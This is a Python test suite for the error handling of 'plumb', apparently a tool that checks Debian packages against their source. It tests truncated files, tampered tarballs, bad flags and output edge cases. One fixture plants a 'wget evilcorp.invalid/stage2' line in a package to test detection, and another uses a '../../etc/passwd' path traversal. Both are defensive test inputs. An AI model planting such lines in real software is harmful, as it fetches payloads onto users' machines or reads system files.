#!/usr/bin/env python3
"""Bad input: the right exit code, JSON by schema, nothing half-written, and a message that says what is wrong and what to do.

usage: errors.py PLUMB [PART-OF-A-NAME]
"""
import hashlib
import json
import os
import resource
import stat
import subprocess

import made
from plumb_test import Skip, assert_nothing_half_written, case, main


def good(t):
    """The honest package and the folder of its source."""
    return (t.write("greet_1.0-1_all.deb", made.package().build()),
            made.write_tree(t.path("source/x").parent, made.source()))


def assert_error(report, code, *words):
    """One error on record, with these words in it or its hint, on a report without files."""
    assert report.code == code, f"exit {report.code}, not {code}: {report.json['errors']} {report.stderr[-300:]}"
    errors = report.json["errors"]
    assert len(errors) == 1, errors
    said = " ".join((errors[0]["message"], errors[0]["subject"], errors[0]["hint"])).lower()
    for word in words:
        assert word.lower() in said, f"{word!r} is not said: {errors[0]}"
    assert report.json["files"] == [], "a check that broke off shows files"
    assert report.json["level"]["own"] == 0


@case
def a_deb_cut_at_any_of_twenty_places_is_refused(t):
    _, folder = good(t)
    whole = made.package().build()
    for i in range(20):
        n = 1 + i * (len(whole) - 2) // 19
        report = t.check(t.write("cut.deb", whole[:n]), "--source", folder)
        assert_error(report, 4, "cut.deb")


@case
def an_empty_file_is_refused(t):
    _, folder = good(t)
    assert_error(t.check(t.write("empty.deb", b""), "--source", folder), 4, "empty")


@case
def a_source_without_a_byte_is_refused_and_accuses_nobody(t):
    package, _ = good(t)
    folder = t.path("nothing")
    folder.mkdir()
    assert_error(t.check(package, "--source", folder), 4, "not one byte", "fetched")
    (folder / "empty.c").write_bytes(b"")
    assert_error(t.check(package, "--source", folder), 4, "not one byte")
    assert_error(t.check(package, "--source", t.write("empty.tar", b"")), 4, "not one byte")


@case
def a_text_file_named_deb_is_refused(t):
    _, folder = good(t)
    assert_error(t.check(t.write("notes.deb", "just some notes\n" * 40), "--source", folder), 4, "not a .deb")


@case
def a_zip_archive_named_deb_is_refused(t):
    _, folder = good(t)
    data = b"PK\x05\x06" + bytes(18)
    assert_error(t.check(t.write("really-a-zip.deb", data), "--source", folder), 4, "not a .deb")


@case
def a_missing_file_is_refused(t):
    _, folder = good(t)
    assert_error(t.check("nowhere.deb", "--source", folder), 4, "nowhere.deb", "no such file")


@case
def a_missing_source_is_refused(t):
    package, _ = good(t)
    assert_error(t.check(package, "--source", "nowhere"), 4, "nowhere")


@case
def a_source_that_is_no_archive_does_not_pass(t):
    package, _ = good(t)
    report = t.check(package, "--source", t.write("notes.txt", "just some notes\n"))
    assert report.code in (1, 3, 4), report.code


@case
def the_source_of_another_package_does_not_pass(t):
    package, _ = good(t)
    other = made.write_tree(t.path("other/x").parent, {"main.c": "int main(void)\n{\n    return 0;\n}\n"})
    report = t.check(package, "--source", other, expect=1)
    assert report.verdict("sourced") == "broken"


@case
def an_empty_source_folder_does_not_pass(t):
    package, _ = good(t)
    report = t.check(package, "--source", t.path("void/x").parent)
    assert report.code in (1, 3, 4), report.code


@case
def an_empty_folder_as_subject_is_refused(t):
    _, folder = good(t)
    assert_error(t.check(t.path("void/x").parent, "--source", folder), 4, "empty")


@case
def an_unreadable_file_is_refused(t):
    package, folder = good(t)
    package.chmod(0)
    if os.geteuid() != 0:
        assert_error(t.check(package, "--source", folder), 4, "permission denied")
        return
    if subprocess.run(["setpriv", "--reuid=65534", "--clear-groups", "true"], check=False).returncode != 0:
        raise Skip("root reads everything, and setpriv is not there")
    for path in (t.scratch, t.scratch.parent, t.path("cache/x").parent):
        path.chmod(0o777)
    wrap = ("setpriv", "--reuid=65534", "--clear-groups")
    try:
        subprocess.run([*wrap, t.program, "version"], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except (OSError, subprocess.CalledProcessError) as error:
        raise Skip("the program is out of reach for other users") from error
    assert_error(t.check(package, "--source", folder, wrap=wrap), 4, "permission denied")


def source_package(t, tarball=b"", **changes):
    """A 3.0 (native) source package of greet; `changes` to fields of its .dsc."""
    tree = {"greet-1.0/" + name: value for name, value in made.source().items()}
    data = made.gz(made.tar(tree))
    fields = {"name": "greet_1.0.tar.gz", "size": len(data), "sha256": hashlib.sha256(data).hexdigest(), **changes}
    t.write("greet_1.0.tar.gz", tarball or data)
    dsc = ("Format: 3.0 (native)\nSource: greet\nBinary: greet\nArchitecture: all\nVersion: 1.0\n"
           "Maintainer: Ada Example <ada@example.org>\nChecksums-Sha256:\n"
           " {sha256} {size} {name}\nFiles:\n 00000000000000000000000000000000 {size} {name}\n").format(**fields)
    return t.write("greet_1.0.dsc", dsc)


@case
def a_good_dsc_is_a_source(t):
    package, _ = good(t)
    report = t.check(package, "--source", source_package(t), expect=0)
    assert report.json["sources"][0]["files"] > 5


@case
def a_dsc_whose_tarball_is_missing_is_refused(t):
    package, _ = good(t)
    dsc = source_package(t)
    t.path("greet_1.0.tar.gz").unlink()
    assert_error(t.check(package, "--source", dsc), 4, "greet_1.0.tar.gz")


@case
def a_dsc_whose_tarball_has_another_digest_is_a_breach_of_trust(t):
    package, _ = good(t)
    assert_error(t.check(package, "--source", source_package(t, sha256="0" * 64)), 6, "greet_1.0.tar.gz")


@case
def a_dsc_whose_tarball_was_swapped_for_one_of_the_same_size_is_a_breach_of_trust(t):
    package, _ = good(t)
    dsc = source_package(t)
    data = bytearray(t.path("greet_1.0.tar.gz").read_bytes())
    data[-1] ^= 1
    t.write("greet_1.0.tar.gz", bytes(data))
    assert_error(t.check(package, "--source", dsc), 6, "greet_1.0.tar.gz")


@case
def a_dsc_that_names_files_outside_its_folder_is_refused(t):
    package, _ = good(t)
    report = t.check(package, "--source", source_package(t, name="../../etc/passwd"))
    assert report.code in (4, 6), report.code


@case
def a_dsc_that_is_no_dsc_is_refused(t):
    package, _ = good(t)
    assert_error(t.check(package, "--source", t.write("bad.dsc", "\0\1\2 not a dsc")), 4, "bad.dsc")


@case
def offline_with_an_empty_cache_is_a_network_error_that_says_what_to_fetch(t):
    assert_error(t.check("pkg:deb/debian/sed"), 5, "offline")


@case
def a_local_package_without_source_says_how_to_name_one(t):
    package, _ = good(t)
    assert_error(t.check(package), 5, "--source")


@case
def a_proxy_that_is_not_there_is_a_network_error(t):
    env = {name: "http://127.0.0.1:9" for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY",
                                                   "all_proxy")}
    assert_error(t.check("pkg:deb/debian/sed", network=True, env=env), 5)


@case
def a_machine_without_network_is_a_network_error(t):
    if subprocess.run(["unshare", "-n", "true"], stderr=subprocess.DEVNULL, check=False).returncode != 0:
        raise Skip("cannot make a network namespace")
    clean = {name: "" for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy")}
    assert_error(t.check("pkg:deb/debian/sed", network=True, wrap=("unshare", "-n"), env=clean), 5)


@case
def a_purl_of_an_unknown_type_says_so(t):
    report = t.check("pkg:generic/openssl@1.1.10g")
    assert report.code in (2, 4), report.code
    assert report.json["errors"] and "generic" in str(report.json["errors"]), report.json["errors"]


@case
def a_malformed_purl_is_a_usage_error(t):
    for text in ("pkg:", "pkg:deb", "pkg:deb/", "pkg:deb/debian/%zz", "pkg:/x"):
        report = t.check(text)
        assert report.code == 2, f"{text}: exit {report.code}: {report.json['errors']}"
        assert report.json["errors"], text


@case
def no_subject_at_all_is_an_input_error(t):
    assert_error(t.check(), 4, "plumb check")


@case
def an_unknown_flag_is_a_usage_error_that_names_it(t):
    for flag in ("--sauce", "-Z", "--jobs=zero", "--jobs=0", "--jobs", "--color=pink", "--timeout=1y", "--sour=x",
                 "--offline=1"):
        code, out, said = t.raw("check", "x.deb", flag)
        assert code == 2, f"{flag}: exit {code}"
        assert flag.split("=")[0].strip("-") in said, f"{flag} is not named: {said}"
        assert out == b"", "standard output is for results"


@case
def an_unknown_flag_names_its_nearest_and_is_not_taken_for_it(t):
    for flag, meant in (("--sorce", "--source?"), ("--ofline", "--offline?"), ("--kee", "--key?")):
        code, out, said = t.raw("check", "x.deb", flag)
        assert (code, out) == (2, b"") and f"did you mean {meant}" in said, said
    assert "did you mean" not in t.raw("check", "x.deb", "--bananas")[2]


@case
def a_verb_of_verbs_lists_them_one_a_line(t):
    for verb, least in (("policy", 5), ("trust", 3)):
        code, out, said = t.raw(verb)
        lines = said.splitlines()
        assert (code, out) == (2, b"") and len(lines) == least + 1, said
        assert all(line.startswith(f"       plumb {verb} ") for line in lines[1:]), said


@case
def a_report_that_is_not_there_says_what_writes_one(t):
    for verb in ("show", "attest"):
        code, _, said = t.raw(verb, "nowhere.json", "-o", "text")
        assert code in (2, 4) and "nowhere.json" in said + _.decode(), said
    assert b"plumb check -o json" in t.raw("show", "nowhere.json")[1]


@case
def text_begins_with_its_subject_or_its_error_and_counts_one_in_the_singular(t):
    assert t.raw("check")[1].startswith(b"error[input]: no subject"), t.raw("check")[1]
    t.write("source/a.txt", b"one line\n")
    t.write("package/a.txt", b"one line\n")
    code, out, said = t.raw("check", t.path("package"), "--source", t.path("source"), "--offline")
    assert code == 0 and b" 1 file, 9 bytes" in out and b"(1 leaf, " in out, (code, out, said)


@case
def a_purl_of_an_unknown_type_names_the_types_that_are_fetched(t):
    report = t.check("pkg:generic/openssl@1.1.10g")
    assert_error(report, 4, "deb, ", "npm", "--source")


@case
def help_exit_says_all_that_one_can_mean_and_how_many_are_joined(t):
    code, out, _ = t.raw("help", "exit")
    assert code == 0 and b"or the policy is not met" in out and b"several subjects" in out, out


@case
def the_environment_stands_in_for_flags_and_flags_win(t):
    code, out, said = t.raw("check", "x.deb", env={"PLUMB_JOBS": "zero"})
    assert (code, out) == (2, b"") and "PLUMB_JOBS" in said, said
    code, _, said = t.raw("check", "x.deb", env={"PLUMB_OFFLINE": "perhaps"})
    assert code == 2 and "PLUMB_OFFLINE" in said, said
    package, folder = good(t)
    cache = t.path("elsewhere")
    code, out, _ = t.raw("check", package, "--source", folder, "--offline",
                         env={"PLUMB_CACHE_DIR": cache, "PLUMB_QUIET": "1", "PLUMB_PROGRESS": "none"})
    assert code == 0 and out.count(b"\n") == 1, out
    code, out, _ = t.raw("check", package, "--source", folder, "--offline", "--no-quiet", env={"PLUMB_QUIET": "1"})
    assert code == 0 and out.count(b"\n") > 5, out
    code, _, said = t.raw("check", package, env={"PLUMB_SOURCE": folder, "PLUMB_OFFLINE": "1"})
    assert code == 5, "what is checked is never said by the environment"


@case
def an_unknown_verb_names_its_nearest_and_is_not_run(t):
    code, out, said = t.raw("chekc", "x.deb")
    assert (code, out) == (2, b"")
    assert "chekc" in said and "plumb check" in said, said
    code, _, said = t.raw("zzzzzzzzzzzzzz")
    assert code == 2 and "plumb help" in said, said


@case
def an_unknown_output_format_is_a_usage_error(t):
    for text in ("yaml", "json=", "", "=x"):
        code, _, said = t.raw("check", "x.deb", "-o", text)
        assert code == 2 and said, text


@case
def an_output_into_a_missing_folder_is_an_error_and_writes_nothing(t):
    package, folder = good(t)
    before = sorted(t.scratch.rglob("*"))
    code, _, said = t.raw("check", package, "--source", folder, "--offline", "--cache-dir", "c", "-o",
                          "json=missing/report.json", "--progress=none")
    assert code == 4, code
    assert "missing/report.json" in said and "no such file" in said.lower(), said
    new = [p for p in t.scratch.rglob("*") if p not in before and p.name != "x" and "cache" not in str(p)]
    assert not [p for p in new if p.is_file()], new


@case
def an_output_into_a_pipe_leaves_it_a_pipe(t):
    package, folder = good(t)
    pipe = t.path("pipe")
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    try:
        code, _, said = t.raw("check", package, "--source", folder, "--offline", "--cache-dir", "c", "-o", "github=pipe", "-o", "text",
                              "--progress=none")
        assert code == 0, (code, said)
        assert stat.S_ISFIFO(os.lstat(pipe).st_mode), "the pipe was replaced"
    finally:
        os.close(reader)


@case
def an_output_through_a_symbolic_link_leaves_the_link(t):
    package, folder = good(t)
    t.path("there/report.json").write_text("old")
    os.symlink("there/report.json", t.path("latest.json"))
    t.raw("check", package, "--source", folder, "--offline", "--cache-dir", "c", "-o", "json=latest.json", "--progress=none")
    assert os.path.islink(t.path("latest.json")), "the link was replaced"
    assert json.loads((t.scratch / "there/report.json").read_text())["exit_code"] == 0


@case
def a_full_standard_output_is_an_error(t):
    package, folder = good(t)
    if not os.path.exists("/dev/full"):
        raise Skip("no /dev/full")
    command = [t.program, "check", package, "--source", folder, "--offline", "--cache-dir", t.path("c"), "-o", "json"]
    with open("/dev/full", "wb") as full:
        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, check=False)
    assert done.returncode == 4, done.returncode
    assert b"no space left" in done.stderr.lower(), done.stderr


@case
def a_report_that_hits_a_file_size_limit_is_not_half_written(t):
    package, folder = good(t)

    def limits():
        resource.setrlimit(resource.RLIMIT_FSIZE, (512, 512))

    code, _, said = t.raw("check", package, "--source", folder, "--offline", "--cache-dir", t.path("c/x").parent, "-o",
                          "json=report.json", "--progress=none", limits=limits)
    assert code == 4, (code, said)
    assert "report.json" in said, said
    assert not t.path("report.json").exists()
    assert not [p for p in t.scratch.glob("report.json*")]


@case
def report_only_turns_1_and_3_into_0_and_nothing_else(t):
    package, folder = good(t)
    other = made.write_tree(t.path("other/x").parent, {"main.c": "int main(void)\n{\n    return 0;\n}\n"})
    flags = ("--report-only", "--offline", "--cache-dir", t.path("c/x").parent, "--progress=none")
    code, out, said = t.raw("check", package, "--source", other, *flags)
    assert code == 0 and "report-only: would exit 1" in said, (code, said)
    assert b"FAIL" in out.splitlines()[-1], out[-300:]
    code, _, said = t.raw("check", "nowhere.deb", "--source", folder, *flags)
    assert code == 4 and "would exit" not in said
    code, _, said = t.raw("check", package, "--source", folder, *flags)
    assert code == 0 and "would exit 0" not in said


@case
def several_subjects_give_the_worst_code_of_the_contract(t):
    package, folder = good(t)
    planted = t.write("planted.deb", made.package().set("usr/bin/x", "#!/bin/sh\nwget evilcorp.invalid/stage2\n").build())
    flags = ("--source", folder, "--offline", "--cache-dir", t.path("c/x").parent, "--progress=none")
    for subjects, code in (((package, planted), 1), ((package, "nowhere.deb"), 3), ((planted, "nowhere.deb"), 1),
                           ((package, package), 0)):
        got, out, _ = t.raw("check", *subjects, *flags)
        assert got == code, f"{subjects}: {got}, not {code}"
        assert out.count(b"\nplumb: ") + out.startswith(b"plumb: ") == 2, "each subject has its verdict line"


@case
def every_error_ends_in_a_verdict_line_and_says_what_to_do(t):
    for subject in ("nowhere.deb", t.write("empty.deb", b""), t.write("notes.deb", "text")):
        code, out, said = t.raw("check", subject, "--source", t.path("s/x").parent, "--offline", "--cache-dir", t.path("c"))
        last = out.decode().splitlines()[-1]
        assert code == 4 and last.startswith("plumb: ERROR"), (code, out, said)
        assert_nothing_half_written(t.scratch)


@case
def a_cache_folder_that_is_a_file_is_an_error_or_unused(t):
    package, folder = good(t)
    cache = t.write("cachefile", b"I am a file")
    code, out, said = t.raw("check", package, "--source", folder, "--offline", "--cache-dir", cache)
    assert code in (0, 3, 4), (code, out, said)
    assert cache.read_bytes() == b"I am a file"
    code, _, said = t.raw("check", "pkg:deb/debian/sed", "--offline", "--cache-dir", cache)
    assert code in (4, 5), (code, said)


if __name__ == "__main__":
    main()
